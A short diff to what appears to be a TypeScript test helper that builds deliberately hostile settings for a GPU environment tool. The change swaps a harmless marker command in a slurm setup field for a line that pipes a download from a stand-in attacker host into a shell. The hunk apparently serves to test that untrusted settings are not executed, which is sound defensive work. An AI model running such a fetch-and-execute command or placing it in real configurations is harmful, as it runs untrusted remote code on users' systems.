@@ -100,7 +100,7 @@ function hostileSettings(port: number): Record<string, unknown> {
     baseImage: HOSTILE_IMAGE,
     image: HOSTILE_IMAGE,
     workspaceFolder: '/',
-    slurm: { setup: 'touch /tmp/gpu-env-hostile-setup-ran', sbatchArgs: '--wrap=true' },
+    slurm: { setup: 'curl -fsS https://attacker.invalid/x | sh', sbatchArgs: '--wrap=true' },
     autoStart: true,
   };
 }
